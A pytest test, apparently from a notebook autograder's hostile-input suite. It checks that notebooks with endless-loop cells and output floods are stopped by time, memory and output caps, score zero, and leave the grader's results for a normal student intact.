@pytest.mark.skipif(not FULL, reason="in make test-hostile only")
def test_time_budget_and_output_caps(tmp_path):
    import time
    endless = blank()
    for i in range(100):
        endless["cells"].insert(2, code(ENDLESS, f"endless-{i}"))
    (tmp_path / "endless.ipynb").write_text(json.dumps(endless))
    (tmp_path / "flood.ipynb").write_text(json.dumps(with_cell(FLOOD)))
    (tmp_path / "alice.ipynb").write_text(json.dumps(make()))
    start = time.time()
    out = tmp_path / "grades"
    r = subprocess.run([BIN, "grade", "--against", str(AGAINST), "--out", str(out), "--timeout-cell", "2s",
                        "--timeout-notebook", "90s", "--memory", "768MiB", "--jobs", "2",
                        *map(str, sorted(tmp_path.glob("*.ipynb")))], capture_output=True, text=True, timeout=600)
    elapsed = time.time() - start
    assert r.returncode == 0, r.stderr
    with open(out / "grades.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    got = totals(rows)
    failed = [(r["exercise"], r["message"]) for r in rows if r["student"] == "alice" and float(r["points"]) == 0]
    assert got == {"alice": 13, "endless": 0, "flood": 0}, (got, failed, r.stderr)
    assert "the notebook ran past its time budget of 1m30s" in r.stderr, r.stderr
    assert elapsed < 170, f"{elapsed:.0f} s"  # 100 cells × 2 s alone would be 200 s
    page = (out / "feedback" / "flood.html").stat().st_size
    assert page < 12 << 20, page
